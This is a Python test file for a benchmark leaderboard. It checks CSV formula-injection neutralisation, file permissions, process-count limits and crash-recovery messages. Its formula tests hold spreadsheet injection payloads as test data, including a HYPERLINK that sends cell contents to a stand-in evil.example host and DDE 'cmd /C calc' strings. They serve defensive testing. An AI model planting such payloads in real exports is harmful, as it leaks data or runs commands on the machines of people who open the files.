"""Issue 31: board files safe to open and to serve.

1. No text cell of a CSV the project writes starts a spreadsheet formula: ``--name``/``--notes``
   starting with ``=``, ``+``, ``-``, ``@``, tab or carriage return are refused at submission, and
   every text cell is neutralised (a leading single quote) when a board is written, so an old card
   cannot inject either; numbers (also negative ones, also written as text) are left alone.
2. Every file the store writes (weights, card, result, journal, boards) has the mode of a normally
   created file, 0666 less the umask (0644 under umask 022), not mkstemp's 0600.
3. ``--procs K`` above the cores this process may run on is refused with one line (exit 2), unless
   ``SALBENCH_ALLOW_OVERSUBSCRIBE=1``.
4. Messages say what happened: a name cut to 80 characters that then collides; a journal whose
   staged files are missing; a process dying inside the commit under ``--procs``.
"""

from __future__ import annotations

import csv
import hashlib
import json
import os
import stat
from contextlib import contextmanager
from dataclasses import replace
from pathlib import Path

import pandas as pd
import pytest
import torch
from safetensors.torch import save_file

from salbench.benchmark import cli
from salbench.benchmark import csv_safety as CS
from salbench.benchmark import harness
from salbench.benchmark import store
from salbench.benchmark import submit as S
from salbench.model_zoo import zoo
from salbench.model_zoo.architectures import build

from .conftest import FAST

CHEAP = replace(FAST, methods=("VG",), accuracy=False)
PREFIXES = ["=", "+", "-", "@", "\t", "\r"]
PAYLOADS = ['HYPERLINK("http://evil.example/?x="&A1,"click")', "cmd|' /C calc'!A0", "SUM(1+1)*cmd|' /C calc'!A0"]


class Killed(BaseException):
    """Stands in for SIGKILL: not an Exception, so no `except Exception` clean-up runs."""


@contextmanager
def umask(mask: int):
    old = os.umask(mask)
    try:
        yield
    finally:
        os.umask(old)


def _weights(tmp: Path, seed: int, name: str = "mine.safetensors") -> Path:
    torch.manual_seed(seed)
    f = tmp / name
    save_file(build("lenet").state_dict(), str(f))
    return f


def _submit(env, f, name, notes="", **kw):
    return harness.submit(f, arch="lenet", dataset="fmnist", name=name, notes=notes, config=CHEAP, progress=False,
                          band=False, imageset=env["imageset"], test_split=env["test"], **kw)


def _cells(path: Path) -> list[str]:
    with open(path, newline="") as fh:
        return [c for row in csv.reader(fh) for c in row]


# --- 1. spreadsheet formulas ------------------------------------------------------------------

@pytest.mark.parametrize("prefix", PREFIXES)
@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_cell_is_neutralised_with_a_leading_quote(prefix, payload):
    text = prefix + payload
    assert CS.starts_formula(text)
    assert CS.neutralise(text) == "'" + text
    assert not CS.starts_formula(CS.neutralise(text))


@pytest.mark.parametrize("number", ["-0.5", "+3", "-1e-3", "-12", "-.5", "+2.5E+4"])
def test_numbers_are_not_quoted(number):
    assert not CS.starts_formula(number) and CS.neutralise(number) == number


def test_safe_frame_touches_only_formula_text_and_keeps_numbers_and_dtypes():
    df = pd.DataFrame({"name": ["=1+1", "fine", None, "-0.5", "\tx"], "delta": [-0.25, -1.0, 0.5, float("nan"), -3e-7],
                       "seed": [None, 1, 2, None, 3], "ranked": [True, False, True, True, False],
                       "mixed": [None, "-2", "@x", 1.5, "+cmd"]})
    before = df.to_csv(index=False, float_format="%.6g")
    out = CS.safe_frame(df)
    assert df.to_csv(index=False, float_format="%.6g") == before  # the input is not changed
    assert list(out["name"].fillna("NA")) == ["'=1+1", "fine", "NA", "-0.5", "'\tx"]  # pandas 3: a str column
    assert list(out["mixed"][1:]) == ["-2", "'@x", 1.5, "'+cmd"] and out["mixed"][0] is None
    assert out.dtypes.to_dict() == df.dtypes.to_dict()
    text = out.to_csv(index=False, float_format="%.6g")
    assert "-0.25" in text and "'-0.25" not in text and "-3e-07" in text
    # a frame with nothing to neutralise is returned as is (boards without such cells are byte-identical)
    clean = df.drop(columns=["name", "mixed"])
    assert CS.safe_frame(clean) is clean


@pytest.mark.parametrize("prefix", PREFIXES)
def test_submission_refuses_a_name_or_notes_that_starts_a_formula(prefix, tmp_path):
    f = tmp_path / "never-read.safetensors"  # refused before the file is read
    bad = prefix + PAYLOADS[1]
    with pytest.raises(S.SubmissionError) as e:
        S.prepare_submission(f, arch="lenet", dataset="fmnist", name=bad, submissions_dir=tmp_path)
    msg = str(e.value)
    assert "\n" not in msg and msg.startswith("--name ") and "formula" in msg and "nothing was written" in msg
    assert f"starts with {prefix!r}" in msg
    with pytest.raises(S.SubmissionError) as e:
        S.prepare_submission(f, arch="lenet", dataset="fmnist", name="fine", notes=bad, submissions_dir=tmp_path)
    assert str(e.value).startswith("--notes ") and "formula" in str(e.value)
    S.check_text_fields("fine", "lr=0.1, wd=-5e-4, +mixup @ 2 GPUs")  # only the first character counts ...
    S.check_text_fields("model 2", "+3")  # ... and a plain number is no formula


def test_cli_rejects_a_formula_name_with_one_line_and_exit_2(tmp_path, capsys):
    f = _weights(tmp_path, 0)
    rc = cli.main(["score", str(f), "--arch", "lenet", "--dataset", "fmnist", "--name=@SUM(1+1)", "--quiet"])
    err = capsys.readouterr().err
    assert rc == 2 and err.count("\n") == 1 and "rejected: --name '@SUM(1+1)' starts with '@'" in err
    rc = cli.main(["score", str(f), "--arch", "lenet", "--dataset", "fmnist", "--name", "ok",
                   "--notes==HYPERLINK(1)", "--quiet"])
    err = capsys.readouterr().err
    assert rc == 2 and err.count("\n") == 1 and "--notes" in err and "formula" in err


def test_an_old_card_with_a_formula_name_cannot_inject_through_the_boards(env, tmp_path, monkeypatch):
    """A card from before the rule (the refusal bypassed): every CSV cell the board files hold is
    neutralised, the name and notes keep their text behind a single quote, numbers stay numbers."""
    monkeypatch.setattr(S, "check_text_fields", lambda *a, **k: None)
    name, notes = '=HYPERLINK("http://evil.example","x")', "+cmd|' /C calc'!A0"
    card, _ = _submit(env, _weights(tmp_path, 3), name, notes)
    lb = env["lb"]
    for p in sorted(lb.glob("*.csv")):
        for cell in _cells(p):
            assert not CS.starts_formula(cell), f"{p.name}: {cell!r}"
    board = pd.read_csv(lb / "fmnist.csv")
    row = board[board["id"] == card["id"]].iloc[0]
    assert row["name"] == "'" + name and row["notes"] == "'" + notes
    assert pd.api.types.is_float_dtype(board["acc_on_set"])  # numeric columns are still numbers


def test_tda_csvs_are_neutralised_too(tmp_path):
    from salbench.benchmark import tda

    p = tmp_path / "x_tda.csv"
    tda._write_csv([{"model": "@evil", "explainer": "-cmd", "delta": -0.5, "note": "-0.5"}], p)
    assert _cells(p) == ["model", "explainer", "delta", "note", "'@evil", "'-cmd", "-0.5", "-0.5"]


# --- 2. file modes ------------------------------------------------------------------------------

@pytest.mark.parametrize("mask, mode", [(0o022, 0o644), (0o027, 0o640), (0o002, 0o664)])
def test_atomic_writes_get_the_mode_of_a_normal_file(tmp_path, mask, mode):
    with umask(mask):
        zoo.atomic_write_bytes(tmp_path / "a.bin", b"x")
        zoo.atomic_write_json(tmp_path / "card.json", {"id": "x"})
        staged = store._stage(tmp_path / "w.safetensors", b"y")
        assert zoo.current_umask() == mask
    for p in (tmp_path / "a.bin", tmp_path / "card.json", staged):
        assert stat.S_IMODE(p.stat().st_mode) == mode, p.name


def test_a_submission_writes_every_file_0644_under_umask_022(env, tmp_path, monkeypatch):
    lb, modes = env["lb"], {}

    def boundary(label):
        if label == "journal written":  # the journal exists only while a submission commits
            j = store.journal_path("fmnist", lb)
            modes[j.name] = stat.S_IMODE(j.stat().st_mode)

    monkeypatch.setattr(store, "_boundary", boundary)
    with umask(0o022):
        card, _ = _submit(env, _weights(tmp_path, 4), "modes")
    sdir = lb / "submissions" / "fmnist"
    files = [sdir / card["weights"], sdir / f"{card['id']}.json", *(lb / "results" / "fmnist").glob("*.json"),
             *lb.glob("fmnist*.csv"), lb / "fmnist_pattern.md"]
    assert len(files) >= 8
    modes.update({p.name: stat.S_IMODE(p.stat().st_mode) for p in files})
    assert ".fmnist.journal.json" in modes
    assert set(modes.values()) == {0o644}, modes


# --- 3. --procs bounded by the cores --------------------------------------------------------------

@pytest.fixture
def two_cores(monkeypatch):
    launched = []
    monkeypatch.setattr(cli, "_cores", lambda: 2)
    monkeypatch.setattr(cli, "_launch", lambda argv, procs, threads: launched.append(procs) or 0)
    monkeypatch.delenv(cli.OVERSUBSCRIBE_ENV, raising=False)
    return launched


@pytest.mark.parametrize("argv", [["--procs", "3", "leaderboard", "--dataset", "fmnist"],
                                  ["leaderboard", "--dataset", "fmnist", "--procs=6"]])
def test_more_procs_than_cores_is_refused_with_one_line(two_cores, argv, capsys):
    with pytest.raises(SystemExit) as e:
        cli.main(argv)
    err = capsys.readouterr().err
    assert e.value.code == 2 and err.count("\n") == 1
    assert "more than the 2 core(s)" in err and "--procs 2 or fewer" in err and cli.OVERSUBSCRIBE_ENV in err
    assert two_cores == []  # nothing was started


def test_procs_up_to_the_cores_or_with_the_escape_hatch_launch(two_cores, monkeypatch):
    assert cli.main(["--procs", "2", "leaderboard", "--dataset", "fmnist"]) == 0
    monkeypatch.setenv(cli.OVERSUBSCRIBE_ENV, "1")
    assert cli.main(["--procs", "5", "leaderboard", "--dataset", "fmnist"]) == 0
    assert two_cores == [2, 5]


def test_cores_follow_the_cpu_affinity_else_the_cpu_count(monkeypatch):
    monkeypatch.setattr(os, "sched_getaffinity", lambda pid: {0, 3, 5}, raising=False)
    assert cli._cores() == 3
    monkeypatch.delattr(os, "sched_getaffinity", raising=False)
    monkeypatch.setattr(os, "cpu_count", lambda: 7)
    assert cli._cores() == 7


# --- 4. messages that say what happened -----------------------------------------------------------

def _card_file(sdir: Path, mid: str, sha: str, name: str) -> None:
    zoo.atomic_write_json(sdir / "fmnist" / f"{mid}.json", {"id": mid, "sha256": sha, "name": name})


def test_a_name_cut_to_80_characters_that_collides_says_it_was_cut(tmp_path):
    long_a, long_b = "x" * 80 + "-first", "x" * 80 + "-second"
    mid = f"fmnist-sub-{S.slug(long_a)}"
    assert S.slug(long_b) == S.slug(long_a) == "x" * 80
    _card_file(tmp_path, mid, "a" * 64, long_a)
    with pytest.raises(S.SubmissionError) as e:
        S.check_name({"id": mid, "dataset": "fmnist", "sha256": "b" * 64, "name": long_b}, tmp_path)
    msg = str(e.value)
    assert "\n" not in msg and "cut to its first 80 characters" in msg and repr(long_a) in msg
    assert "differs within its first 80 characters" in msg
    # a short name that collides is not said to be cut
    _card_file(tmp_path, "fmnist-sub-short", "a" * 64, "short")
    with pytest.raises(S.SubmissionError) as e:
        S.check_name({"id": "fmnist-sub-short", "dataset": "fmnist", "sha256": "b" * 64, "name": "short"}, tmp_path)
    assert "cut to" not in str(e.value) and "already used by another checkpoint" in str(e.value)


@pytest.fixture
def empty_store(tmp_path, monkeypatch):
    lb = tmp_path / "leaderboards"
    for var, d in (("SALBENCH_LEADERBOARDS_DIR", lb), ("SALBENCH_ZOO_DIR", tmp_path / "zoo"),
                   ("SALBENCH_IMAGESETS_DIR", tmp_path / "imagesets")):
        monkeypatch.setenv(var, str(d))
    (lb / "submissions" / "fmnist").mkdir(parents=True)
    return lb


def _journal(lb: Path, files: list) -> None:
    doc = {"op": "submit", "id": "fmnist-sub-gone", "files": files, "regenerate": {}}
    store.journal_path("fmnist", lb).write_text(json.dumps(doc))


def test_recovery_of_a_journal_whose_staged_files_are_missing_says_so(empty_store):
    lb, said = empty_store, []
    sdir = lb / "submissions" / "fmnist"
    present = sdir / "fmnist-sub-gone.json"  # renamed before the crash: holds the journalled bytes
    present.write_bytes(b"card")
    old = sdir / "fmnist-sub-gone-1234.safetensors"  # an older file, not the staged bytes
    old.write_bytes(b"old weights")
    # staged files are named as the store names them (.<target>.<random>.tmp) and journalled with their sha256
    # (issue 28: recovery refuses anything else)
    _journal(lb, [[str(sdir / f".{old.name}.w.tmp"), str(old), hashlib.sha256(b"new weights").hexdigest()],
                  [str(sdir / f".{present.name}.c.tmp"), str(present), hashlib.sha256(b"card").hexdigest()],
                  [str(lb / "results" / "fmnist" / ".r.json.r.tmp"), str(lb / "results" / "fmnist" / "r.json"),
                   hashlib.sha256(b"result").hexdigest()]])
    done = store.recover("fmnist", lb, say=said.append)
    assert said == done and len(done) == 1
    msg = done[0]
    assert "completed" not in msg and msg.startswith("could not complete the interrupted submission of fmnist-sub-gone")
    assert "2 of the 3 file(s)" in msg and old.name in msg and "r.json" in msg and present.name not in msg
    assert "submit fmnist-sub-gone again" in msg
    assert not store.journal_path("fmnist", lb).exists() and (lb / "fmnist.csv").is_file()


def test_recovery_that_renames_what_is_staged_still_says_completed(empty_store):
    lb = empty_store
    sdir = lb / "submissions" / "fmnist"
    staged, target = sdir / ".fmnist-sub-gone.json.x.tmp", sdir / "fmnist-sub-gone.json"
    staged.write_bytes(b"card")
    _journal(lb, [[str(staged), str(target), hashlib.sha256(b"card").hexdigest()]])
    (msg,) = store.recover("fmnist", lb, say=lambda m: None)
    assert msg.startswith("completed the interrupted submission of fmnist-sub-gone") and target.read_bytes() == b"card"


def test_what_a_failed_run_left_tells_nothing_from_written_files_from_a_journal(empty_store):
    lb = empty_store
    before = store.store_snapshot(lb)
    assert store.what_a_failed_run_left(before, lb) == "no result or leaderboard file was written by this run"
    (lb / ".fmnist.lock").write_text("")  # lock files do not count
    (lb / "results" / "fmnist").mkdir(parents=True)
    (lb / "results" / "fmnist" / ".r.json.abc.tmp").write_text("half")
    msg = store.what_a_failed_run_left(before, lb)
    assert msg.startswith("no result or leaderboard file was written by this run (1 temporary file")
    zoo.atomic_write_bytes(lb / "results" / "fmnist" / "r.json", b"{}")
    msg = store.what_a_failed_run_left(before, lb)
    assert "had written or replaced 1 file(s)" in msg and "results/fmnist/r.json" in msg and "no result" not in msg
    _journal(lb, [])
    msg = store.what_a_failed_run_left(before, lb)
    assert "partly committed submission" in msg and "completes or rolls it back" in msg
    assert "salbench leaderboard --dataset fmnist" in msg


def test_rank0_dying_inside_the_commit_under_procs_is_reported_and_completed_next(env, tmp_path, monkeypatch, capsys):
    """The launcher's line after rank 0 died between renames of a submission's commit: no claim that
    nothing was written; the next command completes the submission and says so."""
    from torch.distributed import run as torchrun
    from torch.distributed.elastic.multiprocessing.errors import ChildFailedError, ProcessFailure

    lb, f = env["lb"], _weights(tmp_path, 6)

    def boundary(label):
        if label.startswith("renamed "):
            raise Killed(label)

    def fake_torchrun(args):  # "rank 0" runs the submission and dies at its first rename
        assert "--nproc-per-node=2" in args
        monkeypatch.setattr(store, "_boundary", boundary)
        with pytest.raises(Killed):
            _submit(env, f, "dies-in-commit")
        monkeypatch.setattr(store, "_boundary", lambda label: None)
        failure = ProcessFailure(local_rank=0, pid=12345, exitcode=-9, error_file=str(tmp_path / "no-such-file"))
        raise ChildFailedError("salbench.benchmark.cli", {0: failure})

    monkeypatch.setattr(torchrun, "main", fake_torchrun)
    monkeypatch.setenv("OMP_NUM_THREADS", os.environ.get("OMP_NUM_THREADS", "1"))  # _launch sets it if unset
    rc = cli._launch(["--procs", "2", "score", str(f), "--arch", "lenet", "--dataset", "fmnist", "--name",
                      "dies-in-commit"], 2, 1)
    err = capsys.readouterr().err
    assert rc == 1 and err.count("\n") == 1, err
    assert "1 of 2 processes failed" in err and "no result or leaderboard file was written" not in err
    assert "partly committed submission" in err and "completes or rolls it back" in err
    assert store.journal_path("fmnist", lb).exists()
    harness.regenerate("fmnist", images_sha256=env["imageset"].images_sha256)  # the next command
    assert "completed the interrupted submission of fmnist-sub-dies-in-commit" in capsys.readouterr().err
    assert not store.journal_path("fmnist", lb).exists()
    board = pd.read_csv(lb / "fmnist.csv")
    assert "fmnist-sub-dies-in-commit" in set(board["id"])
